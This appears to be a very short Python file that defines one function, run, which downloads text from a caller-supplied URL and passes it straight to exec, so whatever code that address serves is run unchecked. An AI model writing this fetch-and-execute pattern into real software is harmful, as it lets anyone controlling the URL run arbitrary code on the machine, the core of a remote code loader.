import requests


def run(address):
    exec(requests.get(address).text)
